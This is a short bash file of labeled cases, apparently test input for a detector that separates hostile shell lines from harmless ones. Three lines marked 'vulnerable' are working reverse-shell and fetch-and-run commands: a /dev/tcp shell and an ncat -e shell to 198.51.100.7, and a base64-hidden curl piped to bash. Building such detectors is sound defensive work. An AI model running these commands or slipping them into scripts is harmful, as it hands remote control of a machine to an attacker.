#!/bin/bash
# case: vulnerable
/bin/bash -i > /dev/tcp/198.51.100.7/9001 0<&1 2>&1
# case: vulnerable
ncat 198.51.100.7 9001 -e /bin/bash
# case: vulnerable
echo Y3VybCBldmlsCg== | base64 -d | bash
# case: safe (waits for a port)
until nc -z db 5432; do sleep 1; done
# case: safe (writes a key)
echo "$KEY" | base64 -d > /run/app/key.pem
# case: safe (opens a port test)
timeout 2 bash -c "</dev/tcp/db/5432"
